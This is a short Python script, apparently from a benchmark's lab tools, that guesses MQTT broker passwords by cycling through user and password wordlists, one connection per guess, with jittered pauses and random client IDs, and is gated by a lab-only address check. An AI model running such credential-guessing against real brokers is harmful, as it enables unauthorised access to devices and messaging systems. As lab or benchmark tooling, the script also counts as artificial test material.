"""Guess MQTT passwords: one connection per guess, at a bounded rate and number."""

from __future__ import annotations

import argparse
import itertools
import random
import socket
import time
from ipaddress import IPv4Address
from pathlib import Path

from benchmarks.lab.tools.guard import require_lab
from benchmarks.lab.tools.mqtt import answer_code, connect_packet


def guess(target: tuple[str, int], login: tuple[str, str], client: str) -> int | None:
    """Try one login; returns the broker's code."""
    with socket.create_connection(target, timeout=3) as connection:
        connection.sendall(connect_packet(client, login))
        return answer_code(connection)


def main() -> None:
    """Run the guesses named on the command line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("--port", type=int, default=1883)
    parser.add_argument("--users", type=Path, required=True)
    parser.add_argument("--passwords", type=Path, required=True)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--pause-ms", type=float, default=80.0)
    options = parser.parse_args()
    require_lab([IPv4Address(options.host)])
    words = options.users.read_text().split(), options.passwords.read_text().split()
    codes: list[int | None] = []
    for login in itertools.islice(itertools.cycle(itertools.product(*words)), options.count):
        client = f"c{random.randrange(10**6)}"
        try:
            codes.append(guess((options.host, options.port), login, client))
        except OSError:
            codes.append(None)
        time.sleep(options.pause_ms / 1e3 * random.uniform(0.5, 1.5))
    print({code: codes.count(code) for code in set(codes)})


if __name__ == "__main__":
    main()
